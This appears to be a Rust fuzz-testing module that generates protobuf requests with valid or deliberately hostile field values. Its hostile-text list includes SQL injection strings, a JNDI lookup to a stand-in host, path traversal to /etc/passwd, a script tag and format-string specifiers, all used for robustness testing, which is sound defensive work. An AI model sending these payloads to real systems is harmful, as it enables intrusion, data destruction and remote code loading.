//! Making requests: each field valid or hostile as the dice say. Dice of zero make a valid request, so what proptest
//! shrinks a failure to has only the fields in it that matter.

use prost_reflect::{DynamicMessage, FieldDescriptor, Kind, MessageDescriptor, Value};

use crate::stage::Values;

/// Numbers that choices are made by. Once all are used up, everything else is valid.
pub(crate) struct Dice<'a> {
    thrown: std::slice::Iter<'a, u32>,
    /// How many hostile values each choice had.
    pub(crate) choices: Vec<u32>,
}

impl<'a> Dice<'a> {
    pub(crate) fn new(thrown: &'a [u32]) -> Self {
        Self { thrown: thrown.iter(), choices: Vec::new() }
    }

    /// Returns the number that takes the hostile value at `place`.
    pub(crate) const fn hostile(place: u32) -> u32 {
        place * 8 + 7
    }

    /// Takes one of `valid`, or less often one of `hostile`.
    fn choose<T: Clone>(&mut self, valid: &[T], hostile: &[T]) -> T {
        self.choices.push(u32::try_from(hostile.len()).unwrap());
        let thrown = self.thrown.next().copied().unwrap_or(0);
        let (is_valid, place) = (thrown % 8 < 5 || hostile.is_empty(), (thrown / 8) as usize);
        let from = if is_valid { valid } else { hostile };
        from[place % from.len()].clone()
    }
}

/// Makes one request.
pub(crate) fn request(
    descriptor: &MessageDescriptor,
    values: &Values,
    dice: &mut Dice<'_>,
) -> DynamicMessage {
    let mut message = DynamicMessage::new(descriptor.clone());
    for field in descriptor.fields() {
        if field.is_list() {
            let count = dice.choose(&[1, 2], &[0, 64, 65, 1_000]);
            let item = one(&field, values, dice);
            message.set_field(&field, Value::List(vec![item; count]));
        } else if !field.supports_presence() || dice.choose(&[true], &[false]) {
            message.set_field(&field, one(&field, values, dice));
        }
    }
    message
}

fn one(field: &FieldDescriptor, values: &Values, dice: &mut Dice<'_>) -> Value {
    match field.kind() {
        Kind::String => Value::String(dice.choose(&values.texts(field), &hostile_texts())),
        Kind::Bool => Value::Bool(dice.choose(&[false], &[true])),
        Kind::Uint32 => {
            let valid = [Values::number(field)];
            Value::U32(dice.choose(&valid, &[1, 2, 6, 15, 100, 101, u32::MAX]))
        }
        Kind::Uint64 => Value::U64(dice.choose(&[0], &[1, 2, 1 << 63, u64::MAX])),
        Kind::Enum(list) => {
            let all: Vec<_> = list.values().map(|value| value.number()).collect();
            let valid = values.enum_numbers(&list);
            let hostile: Vec<_> = all.into_iter().chain([-1, 99, i32::MIN, i32::MAX]).collect();
            Value::EnumNumber(dice.choose(&valid, &hostile))
        }
        Kind::Message(inner) => Value::Message(match inner.full_name() {
            "google.protobuf.Timestamp" => {
                pair(&inner, dice.choose(&[values.instant(field)], &HOSTILE_INSTANTS))
            }
            "google.protobuf.Duration" => {
                pair(&inner, dice.choose(&[values.duration(field)], &HOSTILE_DURATIONS))
            }
            _ => request(&inner, values, dice),
        }),
        other => panic!("{}: make values of kind {other:?} here", field.full_name()),
    }
}

/// Makes an instant or a length of time.
fn pair(descriptor: &MessageDescriptor, (seconds, nanos): (i64, i32)) -> DynamicMessage {
    let mut message = DynamicMessage::new(descriptor.clone());
    message.set_field_by_name("seconds", Value::I64(seconds));
    message.set_field_by_name("nanos", Value::I32(nanos));
    message
}

const HOSTILE_INSTANTS: [(i64, i32); 9] = [
    (0, 0),
    (0, -1),
    (0, 1_000_000_000),
    (i64::MAX, i32::MAX),
    (i64::MIN, i32::MIN),
    (253_402_300_799, 999_999_999),
    (253_402_300_800, 0),
    (-62_135_596_800, 0),
    (9_223_372_036_855, 0),
];

const HOSTILE_DURATIONS: [(i64, i32); 10] = [
    (0, 0),
    (0, 1),
    (0, -1),
    (1, -1),
    (-1, 0),
    (-1, 1),
    (86_401, 0),
    (315_576_000_001, 0),
    (i64::MAX, i32::MAX),
    (i64::MIN, i32::MIN),
];

/// Texts at and beyond every bound that the API has, and such as break programs.
pub(crate) fn hostile_texts() -> Vec<String> {
    let lengths =
        [1, 32, 33, 36, 40, 41, 64, 65, 128, 129, 256, 257, 1_024, 1_025, 60_000, 100_000];
    let long = lengths.map(|length| "q".repeat(length));
    let odd = [
        "",
        " ",
        "\0",
        "zq\0zq",
        "zq\nzq\r\nzq",
        "\u{7f}",
        "\u{85}",
        "\u{202e}zqzqzq",
        "\u{feff}",
        "zqäöüß",
        "Σὲ γνωρίζω",
        "🔑🔑🔑🔑🔑🔑🔑🔑🔑",
        "e\u{301}e\u{301}e\u{301}e\u{301}",
        "' OR '1'='1",
        "'; DROP TABLE users; --",
        "{}{:?}{0}%s%n%x%%",
        "${jndi:ldap://zq.example}",
        "../../../etc/passwd",
        "<script>zq()</script>",
        "otpauth://totp/zq?secret=A",
        "acme.evil/../beta",
        "-",
        ".",
        "..",
        "NaN",
        "-1",
        "18446744073709551616",
        "platform",
        "00000000-0000-0000-0000-000000000000",
        "ffffffff-ffff-ffff-ffff-fffffffffffg",
        "FFFFFFFF-FFFF-FFFF-FFFF-FFFFFFFFFFFF",
        "{0190163d8694739baea5966c26f8ad91}",
        "urn:uuid:0190163d-8694-739b-aea5-966c26f8ad91",
        "255.255.255.255/33",
        "::ffff:203.0.113.7%eth0",
    ];
    odd.map(str::to_owned).into_iter().chain(long).collect()
}
